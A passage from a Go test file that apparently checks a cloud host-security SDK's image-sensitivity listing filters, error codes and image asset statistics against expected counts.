		if n, _ := count(t, model.ListImageSensitiveRequest{HandleStatus: ptr("handled")}); n != 0 {
			t.Errorf("handle_status=handled: %d", n)
		}
		if n, _ := count(t, model.ListImageSensitiveRequest{HandleStatus: ptr("unhandled"), ImageVersion: ptr("2")}); int(n) != len(*resp.DataList) {
			t.Errorf("image_version=2 unhandled: %d", n)
		}
		if n, got := count(t, model.ListImageSensitiveRequest{Offset: ptr(int32(1)), Limit: ptr(int32(1))}); int(n) != len(*resp.DataList) || got != 1 {
			t.Errorf("offset=1 limit=1: total %d, %d rows", n, got)
		}

		_, err = c.ListImageSensitive(&model.ListImageSensitiveRequest{ImageType: "private_image", ImageId: strings.Repeat("0", 64)})
		wantSDKError(t, err, 404, "HSS.0011")
		_, err = c.ListImageSensitive(&model.ListImageSensitiveRequest{ImageType: "private_image", ImageId: riskyID, Severity: ptr("High")})
		wantSDKError(t, err, 400, "HSS.0001")
	})

	t.Run("ShowImageAssetStatistics", func(t *testing.T) {
		total := func(typ string) int32 {
			t.Helper()
			resp, err := listSwrImageRepository(c, &model.ListSwrImageRepositoryRequest{ImageType: typ})
			if err != nil {
				t.Fatalf("ListSwrImageRepository %s: %v", typ, err)
			}
			return *resp.TotalNum
		}
		registry := total("private_image") + total("shared_image") + total("instance_image")
		local := total("local_image")
		if registry != 3 || local != 1 {
			t.Fatalf("the lists show %d registry and %d local rows, want 3 and 1", registry, local)
		}
		st, err := c.ShowImageAssetStatistics(&model.ShowImageAssetStatisticsRequest{})
		if err != nil {
			t.Fatalf("ShowImageAssetStatistics: %v", err)
		}
		if st.RegistryNum == nil || *st.RegistryNum != registry || st.LocalNum == nil || *st.LocalNum != local || st.CicdNum == nil || *st.CicdNum != 0 {
			t.Fatalf("statistics = %s, want registry_num %d local_num %d cicd_num 0", dump(st), registry, local)
		}
		st, err = c.ShowImageAssetStatistics(&model.ShowImageAssetStatisticsRequest{EnterpriseProjectId: ptr("all_granted_eps")})
		if err != nil || *st.RegistryNum != registry || *st.LocalNum != local {
			t.Fatalf("all_granted_eps: %v %s", err, dump(st))
		}

		_, err = c.ShowImageAssetStatistics(&model.ShowImageAssetStatisticsRequest{EnterpriseProjectId: ptr("not an id!")})
		wantSDKError(t, err, 400, "HSS.0001")
	})
}
